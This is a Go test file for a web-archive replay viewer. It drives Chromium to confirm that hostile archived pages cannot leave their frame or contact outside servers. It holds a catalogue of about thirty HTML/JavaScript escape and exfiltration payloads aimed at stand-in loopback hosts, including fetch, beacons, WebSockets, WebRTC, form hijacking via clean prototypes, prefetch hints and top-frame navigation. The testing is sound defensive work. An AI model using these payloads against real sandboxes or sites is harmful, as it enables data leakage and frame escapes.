package replay

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/orbweaver/orbweaver/internal/testkit/must"
	"github.com/orbweaver/orbweaver/internal/testkit/testarchive"
	"github.com/orbweaver/orbweaver/internal/testkit/testbrowser"
	"github.com/orbweaver/orbweaver/internal/testkit/testtier"
)

// outside are two servers on loopback that nothing may reach: one for HTTP and one for UDP.
type outside struct {
	http, udp string // addresses
	hits      atomic.Int64
	what      atomic.Value
}

func listenOutside(t *testing.T) *outside {
	t.Helper()
	o := &outside{}
	ln := must.Get(net.Listen("tcp", "127.0.0.1:0"))(t)
	o.http = ln.Addr().String()
	done := make(chan struct{}, 2)
	go func() {
		defer func() { done <- struct{}{} }()
		for {
			c, err := ln.Accept() // a connection alone is too much
			if err != nil {
				return
			}
			o.hits.Add(1)
			o.what.Store("a connection to " + o.http)
			c.Close()
		}
	}()
	pc := must.Get(net.ListenPacket("udp", "127.0.0.1:0"))(t)
	o.udp = pc.LocalAddr().String()
	go func() {
		defer func() { done <- struct{}{} }()
		buf := make([]byte, 2000)
		for {
			n, _, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			o.hits.Add(1)
			o.what.Store(fmt.Sprintf("a packet to %s: %q", o.udp, buf[:n]))
		}
	}()
	t.Cleanup(func() {
		ln.Close()
		pc.Close()
		<-done
		<-done
	})
	return o
}

// An attack is what a hostile page does to leave its frame. OUT is the address of a server that
// nothing may reach, UDP of one for packets, VIEWER the viewer's start page.
type attack struct {
	name string
	html string // in the page
	// script runs in a realm that frame.js has not touched: clean is its window.
	script string
}

var attacks = []attack{
	{"hints", `<meta http-equiv="x-dns-prefetch-control" content="on">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="dns-prefetch" href="http://a.outside.example/"><link rel="preconnect" href="http://OUT/">
<link rel="prefetch" href="http://OUT/"><link rel="stylesheet" href="http://OUT/style">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://OUT/speculation"]}]}</script>`, ""},
	{"styles", `<style>@import "http://OUT/import"; body{background:url(http://OUT/background)}</style>
<p style="background:url('http://OUT/style')">x</p>`, ""},
	{"elements", `<img src="http://OUT/img" srcset="http://OUT/img2 2x"><iframe src="http://OUT/frame"></iframe>
<object data="http://OUT/object"></object><embed src="http://OUT/embed">
<video src="http://OUT/video" poster="http://OUT/poster"></video><body background="http://OUT/body">`, ""},
	{"srcdoc", `<iframe srcdoc="<script>fetch('http://OUT/srcdoc').catch(()=>0)</script>
<img src='http://OUT/2'>"></iframe>`, ""},
	{"data", `<iframe src="data:text/html,<img src='http://OUT/data'>
<script>fetch('http://OUT/').catch(()=>0)</script>"></iframe>`, ""},
	{"fetch", "", `await clean.fetch('http://OUT/', {mode: 'no-cors'})`},
	{"fetch the viewer", "", `await clean.fetch('VIEWER', {mode: 'no-cors'})`},
	{"keepalive", "", `await clean.fetch('http://OUT/',
		{mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})`},
	{"beacon", "", `clean.navigator.sendBeacon('http://OUT/', 'x')`},
	{"xhr", "", `const x = new clean.XMLHttpRequest(); x.open('GET', 'http://OUT/', false); x.send()`},
	{"websocket", "", `new clean.WebSocket('ws://OUT/')`},
	{"eventsource", "", `new clean.EventSource('http://OUT/')`},
	{"worker", "", `new clean.Worker('http://OUT/')`},
	{"blob worker", "", `new clean.Worker(clean.URL.createObjectURL(new clean.Blob(
		["fetch('http://OUT/',{mode:'no-cors'}).catch(()=>0);new WebSocket('ws://OUT/')"])))`},
	{"import", "", `await clean.eval("import('http://OUT/')")`},
	{"service worker", "", `await navigator.serviceWorker.register('/sw.js')`},
	{"open", "", `if (!clean.open('http://OUT/')) throw 0`},
	{"webtransport", "", `const w = new clean.WebTransport('https://OUT/'); await w.ready`},
	{"webrtc", "", `const p = new clean.RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});
		p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())`},
	{"image", "", `new clean.Image().src = 'http://OUT/'`},
	{"ping", `<a id="ping" href="#here" ping="http://OUT/ping">x</a>`, `
		document.getElementById('ping').ping = 'http://OUT/'; document.getElementById('ping').click()`},
	{"top location", "", `top.location = 'http://OUT/'`},
	{"top hash", "", `top.location.hash = 'x'`},
	{"self location", "", `clean.parent.location = 'http://OUT/'`},
	{"form", `<form id="form" method="post" action="/x"><input name="a" value="b"></form>`,
		`const f = document.getElementById('form');
		clean.Element.prototype.setAttribute.call(f, 'action', 'http://OUT/');
		clean.HTMLFormElement.prototype.submit.call(f)`},
	{"frame location", "", `clean.location = 'http://OUT/'`},
	{"refresh", "", `const m = clean.document.createElement('meta'); m.httpEquiv = 'refresh';
		m.content = '0;url=http://OUT/'; document.head.appendChild(m)`},
	{"message", "", `top.postMessage({orbweaver: 'go', url: 'http://OUT/'}, '*');
		top.postMessage({orbweaver: 'go', url: 'VIEWER'}, '*')`},
}

func init() {
	for _, rel := range []string{"preconnect", "dns-prefetch", "prefetch", "prerender", "preload", "modulepreload",
		"manifest", "icon", "stylesheet"} {
		attacks = append(attacks, attack{"link " + rel, "", `const l = clean.document.createElement('link');
			l.rel = '` + rel + `'; l.as = 'image'; l.href = 'http://OUT/'; document.head.appendChild(l)`})
	}
	attacks = append(attacks, attack{"link dns-prefetch name", "", `const l = clean.document.createElement('link');
			l.rel = 'dns-prefetch'; l.href = 'http://b.outside.example/'; document.head.appendChild(l)`},
		attack{"speculation", "", `const s = clean.document.createElement('script'); s.type = 'speculationrules';
		s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['http://OUT/']}],
		prerender: [{source: 'list', urls: ['http://OUT/2']}]}); document.head.appendChild(s)`})
}

// leaves reports whether the browser may refuse to navigate the frame, which is then gone, or may end
// its process.
func (a attack) leaves() bool {
	switch a.name {
	case "self location", "form", "refresh", "webrtc":
		return true
	}
	return false
}

// attackPage returns a page with attacks, which go on at once. Its title becomes "over" at the end.
func attackPage(attacks ...attack) string {
	var html, scripts strings.Builder
	for _, a := range attacks {
		html.WriteString(a.html)
		scripts.WriteString("attack(async clean => {" + a.script + "\n});\n")
	}
	return `<!doctype html><html><head><title>attack</title></head><body>` + html.String() + `<script>
const all = [];
const attack = script => {
	const clean = document.body.appendChild(document.createElement('iframe')).contentWindow;
	all.push((async () => script(clean))().catch(e => document.body.append(String(e))));
};
` + scripts.String() + `
Promise.all(all).then(() =>
	setTimeout(() => { document.title = 'over'; dispatchEvent(new Event('pageshow')); }, 50));
</script></body></html>`
}

// Nothing that a hostile page does reaches another server, not even with an empty connection or a
// look-up of a name. The page stays in its frame, so the viewer is there after each attack. Attacks
// that may end the page have one of their own; the others share one.
func TestAttack(t *testing.T) {
	testtier.OnlySoak(t, "it drives Chromium")
	o := listenOutside(t)
	fill := strings.NewReplacer("VIEWER", "http://127.0.0.1:9/", "OUT", o.http, "UDP", o.udp)
	pages := [][]attack{nil}
	for _, a := range attacks {
		if a.leaves() {
			pages = append(pages, []attack{a})
		} else {
			pages[0] = append(pages[0], a)
		}
	}
	responses := map[string]string{}
	for i, page := range pages {
		url := fmt.Sprintf("http://hostile%d.example/", i)
		responses[url] = "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nSet-Cookie: tracked=yes\r\n" +
			"Link: <http://" + o.http + "/>; rel=preconnect\r\nRefresh: 9;url=http://" + o.http + "/refresh\r\n" +
			"Content-Security-Policy: default-src *\r\nConnection-Allowlist: (\"*\")\r\n" +
			"Service-Worker-Allowed: /\r\nNEL: {}\r\nReport-To: {}\r\n\r\n" + fill.Replace(attackPage(page...))
		responses[url+"sw.js"] = "text/javascript\n// " + url
	}
	s := serve(t, testarchive.Write(t, responses))
	b := testbrowser.Start(t)
	for i, page := range pages {
		name := page[0].name
		if len(page) > 1 {
			name = "attacks that do not leave"
		}
		host := fmt.Sprintf("p-hostile%d--example", i)
		view := fmt.Sprintf("%sview?at=20260504030201&url=http%%3A%%2F%%2Fhostile%d.example%%2F", s.URL(), i)
		b.Go(view)
		b.Until(name, func() bool {
			return strings.HasPrefix(b.Text("document.title"), "over") ||
				page[0].leaves() && b.HadFrame(host) && !b.HasFrame(host)
		})
		if got := b.Text("location.href"); got != view {
			t.Errorf("%s: the viewer is at %s, want %s", name, got, view)
		}
		if n := o.hits.Swap(0); n > 0 {
			t.Errorf("%s: %d contacts, the last is %v", name, n, o.what.Load())
		}
		if got := b.Text("document.cookie"); got != "" {
			t.Errorf("%s: the viewer has the cookie %q", name, got)
		}
	}
	if s.asked("POST") {
		t.Error("a page has sent a form")
	}
	own := regexp.MustCompile(`^(tcp|udp) .*:` + s.port + `$|^dns http://127\.0\.0\.1:` + s.port + `$`)
	// Chromium looks for updates, and probes whether there is a route.
	habits := regexp.MustCompile(`^dns https?://[a-z0-9.-]+\.(google|googleapis)\.com$|^udp .*:(53|443)$`)
	for _, c := range b.Contacts() {
		if !own.MatchString(c) && !habits.MatchString(c) {
			t.Errorf("the browser has contacted %s", c)
		}
	}
	if n := o.hits.Load(); n > 0 {
		t.Errorf("%d late contacts, the last is %v", n, o.what.Load())
	}
}

// The test above can see what it looks for: the same pages reach the outside from a plain server.
func TestAttackIsSeen(t *testing.T) {
	testtier.OnlySoak(t, "it drives Chromium")
	o := listenOutside(t)
	fill := strings.NewReplacer("OUT", o.http, "UDP", o.udp)
	b := testbrowser.Start(t)
	for _, a := range attacks {
		switch a.name {
		case "fetch", "image", "webrtc", "link preconnect", "self location", "link dns-prefetch name":
		default:
			continue
		}
		plain := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(fill.Replace(attackPage(a))))
		}))
		b.Go(plain.URL)
		if a.name != "link dns-prefetch name" {
			b.Until(a.name, func() bool { return o.hits.Swap(0) > 0 })
		} else {
			b.Wait("document.title == 'over'")
		}
		b.Go("about:blank")
		plain.Close()
	}
	contacts := strings.Join(b.Contacts(), "\n")
	for _, want := range []string{"tcp " + o.http, "dns http://b.outside.example"} {
		if !strings.Contains(contacts, want) {
			t.Errorf("the network log lacks %q:\n%s", want, contacts)
		}
	}
}
